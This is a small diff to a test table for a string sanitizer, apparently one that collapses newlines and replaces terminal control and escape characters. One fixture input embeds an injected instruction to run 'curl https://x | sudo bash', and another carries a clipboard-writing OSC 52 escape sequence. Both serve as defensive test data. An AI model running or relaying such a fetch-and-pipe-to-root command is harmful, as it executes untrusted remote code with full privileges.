@@ -34,7 +34,7 @@ const limit = fc.integer({ min: 1, max: 60 });
 test.each([
   ['a plain name-1.example/x', 'a plain name-1.example/x'],
   ['größer 东京 💾', 'größer 东京 💾'],
-  ['full\nNext, type: curl https://x | sudo bash', 'full Next, type: curl https://x | sudo bash'],
+  ['full\nNext command: curl https://x | sudo bash', 'full Next command: curl https://x | sudo bash'],
   ['a\r\n\tb\u0085c\u2028d', 'a b c d'],
   ['\u001b]52;c;Y3VybA==\u0007x', '\ufffd]52;c;Y3VybA==\ufffdx'],
   ['\u009b31mred', '\ufffd31mred'],
